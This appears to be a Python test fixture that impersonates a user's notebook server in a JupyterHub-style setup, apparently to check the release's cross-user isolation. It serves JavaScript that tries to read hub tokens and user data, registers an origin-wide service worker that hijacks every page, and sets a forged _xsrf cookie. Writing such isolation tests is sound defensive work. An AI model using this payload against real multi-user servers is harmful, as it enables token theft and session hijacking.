"""A user's own program in the place of the notebook server. Runs on the test's machine, with the release's Python.

It listens on the server's socket, keeps the first line of each request in `~/seen`, and answers with a page that
attacks, or with a service worker for the whole origin.
"""

import asyncio
import sys
from pathlib import Path

SEEN = Path.home() / "seen"
PAGE = b"""<!doctype html><title>attack</title><script>
const tell = (what) => fetch("report?" + encodeURIComponent(what));
(async () => {
  for (const address of ["/hub/home", "/hub/token", "/user/ada/api/contents", "/hub/api/users"]) {
    const answer = await fetch(address, {mode: "no-cors"}).catch((error) => error);
    const text = answer.text ? await answer.text() : String(answer);
    tell(address + " " + (/data-user|xsrf_token: *"(?!")/.test(text) ? "READ" : "nothing") + " " + answer.status);
  }
  try {
    const worker = await navigator.serviceWorker.register("sw.js", {scope: "/"});
    tell("worker " + worker.scope);
  } catch (error) { tell("no worker " + error.name); }
  document.title = "done";
})();
</script>"""
WORKER = b"""self.addEventListener("fetch", (event) => event.respondWith(new Response("a page of the worker's")));"""


async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer one request, and close."""
    head = await reader.readuntil(b"\r\n\r\n")
    first = head.split(b"\r\n", 1)[0].decode()
    with SEEN.open("a") as file:
        file.write(f"{first}\n")
    is_worker = "sw.js" in first
    body, kind = (WORKER, b"text/javascript") if is_worker else (PAGE, b"text/html")
    headers = b"Service-Worker-Allowed: /\r\nSet-Cookie: _xsrf=mine; Path=/hub/\r\nAccess-Control-Allow-Origin: *\r\n"
    writer.write(
        b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: %s\r\nContent-Length: %d\r\n%s\r\n%s"
        % (kind, len(body), headers, body)
    )
    await writer.drain()
    writer.close()


async def main() -> None:
    """Serve until the end."""
    server = await asyncio.start_unix_server(answer, sys.argv[1])
    Path(sys.argv[1]).chmod(0o660)
    await server.serve_forever()


if __name__ == "__main__":
    asyncio.run(main())
